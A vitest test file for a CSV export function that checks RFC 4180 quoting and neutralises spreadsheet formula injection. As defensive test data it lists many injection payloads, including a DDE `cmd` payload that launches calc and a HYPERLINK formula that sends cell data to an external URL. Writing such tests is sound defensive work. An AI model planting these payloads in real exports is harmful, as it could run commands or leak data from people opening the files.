import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRecord } from '../../../src/exporting/csv.js'
import { parseCsv } from '../../support/csv.js'

describe('a CSV record', () => {
  it.each<[cells: string[], record: string]>([
    [['a', 'b c', ''], 'a,b c,\r\n'],
    [['1,5', 'say "hi"'], '"1,5","say ""hi"""\r\n'],
    [['two\nlines', 'a\r\nb', 'a\rb'], '"two\nlines","a\r\nb","a\rb"\r\n'],
    [['"=1', "'=1"], '"""=1",\'=1\r\n'],
    [[' kept ', "'quoted'"], " kept ,'quoted'\r\n"],
    [['größe', '🙂', 'a;b'], 'größe,🙂,a;b\r\n'],
    [['{"a":"="}', 'a=b', '1-2', 'a@b'], '"{""a"":""=""}",a=b,1-2,a@b\r\n'],
  ])('of %j follows RFC 4180', (cells, record) => {
    expect(csvRecord(cells)).toBe(record)
    expect(parseCsv(record)).toEqual([cells])
  })

  it.each([
    '=1+1',
    '+1',
    '-5',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    '\tx',
    ' =1',
    '\u00a0 \u3000=1',
    '\ufeff=1',
    ' \r\n-1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '﹦1',
    '\u200b=1+1',
    '\u200d\u2060 +1',
    '\u00ad-1',
    '\u202e=1',
    '\u2028=1',
    '\u0085@x',
    '\u001c=1',
    '\u001f\u007f=1',
    '\u180e=1',
    '\ufe0f=1',
    '\u115f\u3164=1',
    '\u2800=1',
    '\u{e0020}=1',
    ';=1+1',
    ', ;|\t=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
  ])('of %j is not a formula', (cell) => {
    expect(parseCsv(csvRecord([cell]))).toEqual([[`'${cell}`]])
  })

  it('is written in linear time', () => {
    const blank = '\u200b '.repeat(500_000)
    expect(csvRecord([blank])).toHaveLength(blank.length + 2)
    expect(csvRecord([`${blank}=1`])).toBe(`'${blank}=1\r\n`)
  })

  it('reads back any content, and starts no cell with a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'",\r\n\t \'=+-@＝\ufeffa1') }),
      fc.string({ unit: 'binary' }),
    )
    const records = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1 }),
      )
    let guarded = 0
    fc.assert(
      fc.property(records, (given) => {
        const read = parseCsv(given.map((cells) => csvRecord(cells)).join(''))
        expect(read).toHaveLength(given.length)
        for (const [row, cells] of given.entries())
          for (const [column, value] of cells.entries()) {
            const text = read[row]![column]!
            expect(text.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/)
            expect(text).not.toMatch(/^[\t\r\n]/)
            if (text !== value) {
              guarded++
              expect(text).toBe(`'${value}`)
            }
          }
      }),
    )
    expect(guarded).toBeGreaterThan(0)
  })
})
